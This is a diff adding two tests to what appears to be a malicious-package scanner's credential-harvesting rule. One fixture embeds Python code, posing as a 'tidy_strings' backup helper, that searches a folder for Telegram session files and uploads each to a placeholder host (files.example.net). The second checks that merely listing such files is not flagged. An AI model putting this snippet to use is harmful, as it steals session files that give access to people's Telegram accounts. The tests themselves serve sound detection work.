@@ -428,3 +428,35 @@ def test_developer_scripts_in_the_manifest_are_not_install_code(engine: Engine) 
     found = executes_code_at_remote_url_rule(package(engine, hook))
     assert found is not None
     assert {s.context for s in found.signals} == {"install"}
+
+
+SESSION_SEARCH = (
+    "import os, requests\n\ndef sync(folder):\n"
+    "    for name in os.listdir(folder):\n"
+    "        if name.endswith('.session'):\n"
+)
+
+
+def test_telegram_sessions_found_and_uploaded_flag(engine: Engine) -> None:
+    archive = sdist(
+        {
+            "tidy_strings/backup.py": SESSION_SEARCH
+            + "            with open(os.path.join(folder, name), 'rb') as f:\n"
+            "                requests.post('https://files.example.net/up', files={'f': f})\n"
+        }
+    )
+    evidence = run_rule(engine, credential_harvesting_rule, archive)
+    assert "uploads the Telegram session files it finds" in evidence[0]["signatures"]
+    assert engine.analyze(archive).flagged
+
+
+def test_telegram_sessions_listed_by_a_client_are_not_uploads(engine: Engine) -> None:
+    archive = sdist(
+        {
+            "tidy_strings/accounts.py": SESSION_SEARCH
+            + "            print(name, requests.get('https://status.example.net').status_code)\n"
+        }
+    )
+    evidence = run_rule(engine, credential_harvesting_rule, archive)
+    assert evidence[0]["signatures"] == ["searches folders for Telegram client session files"]
+    assert not engine.analyze(archive).flagged
